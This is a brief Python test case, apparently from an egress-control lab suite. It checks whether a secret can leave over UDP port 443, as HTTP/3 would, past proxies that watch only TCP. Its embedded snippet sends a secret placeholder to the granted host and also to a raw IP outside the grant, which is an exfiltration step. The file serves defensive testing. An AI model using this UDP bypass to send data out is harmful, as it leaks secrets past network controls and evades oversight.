"""sends a secret by UDP to the granted host, as QUIC would"""

from evidence import secret_left as succeeded

SHAPE = "HTTP/3 past proxies that see TCP alone"
PROMISE = "P28"
LAB = True
OPTIONS = {"hosts": ["api.rwlab.net"]}
PYTHON = """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@SECRET@", ("api.rwlab.net", 443))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@SECRET@", ("93.184.216.10", 443))
"""
